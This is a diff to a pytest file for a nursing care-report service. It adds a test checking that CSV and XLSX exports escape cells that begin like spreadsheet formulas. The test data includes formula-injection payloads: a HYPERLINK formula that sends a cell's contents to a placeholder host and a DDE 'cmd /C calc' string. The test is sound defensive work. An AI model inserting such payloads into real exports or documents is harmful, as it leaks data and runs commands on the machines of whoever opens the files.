@@ -10,6 +10,7 @@ from uuid import UUID
 import httpx
 import pytest
 from openpyxl import load_workbook
+from tests.access.world import figure
 from tests.bulk.test_import_lines import lines, take_in
 from tests.factories import Region, Vendor, agree, join, register, report, sheet, submit
 from tests.http.inside import as_owner
@@ -19,6 +20,7 @@ from renkei.schemas.bulk.guarding import DANGEROUS, guarded, unguarded
 from renkei.settings import Settings
 from renkei.worker.labour import Labour
 
+PAYLOADS = ("1+1", 'HYPERLINK("http://x/?"&A1,"見る")', "cmd|' /C calc'!A0")
 FORMULA = '=HYPERLINK("http://x/?"&A1,"見る")'
 
 
@@ -99,6 +101,29 @@ async def test_no_cell_is_a_formula(region: Region, labour: Labour) -> None:
     names, values = book["care_reports"].iter_rows(values_only=True)
     told = dict(zip(names, values, strict=True))
     assert (told["care_report.body"], told["care_report.body_temperature"]) == ("'＝1+1", 36.5)
+
+
+async def test_texts_that_begin_like_a_formula_are_written_as_texts(region: Region, labour: Labour) -> None:
+    nurses = await region.found("visiting_nursing")
+    patient = await register(nurses, by="nurse")
+    payloads = [f"{first}{rest}" for first in sorted(DANGEROUS) for rest in PAYLOADS]
+    kept = []
+    for payload in payloads:
+        sent = await nurses.post(f"/v1/patients/{patient}/care-reports", report(items={"body": payload}), by="nurse")
+        assert sent.status_code in (201, 422), sent.text
+        kept += [payload] if sent.status_code == 201 else []
+    said = {"what": "own_records", "sheet": "care_reports"}
+    text = await fetched(nurses, await export(nurses, labour, **said, format="csv"))
+    rows = list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"), newline="")))
+    assert sorted(row["care_report.body"] for row in rows) == sorted(f"'{one}" for one in kept)
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in DANGEROUS and cell]
+    book = load_workbook(
+        io.BytesIO(await fetched(nurses, await export(nurses, labour, what="own_records", format="xlsx")))
+    )
+    told = [cell for page in book for row in page.iter_rows() for cell in row]
+    assert not [cell for cell in told if cell.data_type == "f" or str(cell.value)[:1] in DANGEROUS]
+    figure(f"formulas in exports: {len(payloads)} sent, {len(kept)} kept and written out; cells computed 0")
 
 
 @pytest.mark.parametrize("first", sorted(DANGEROUS))
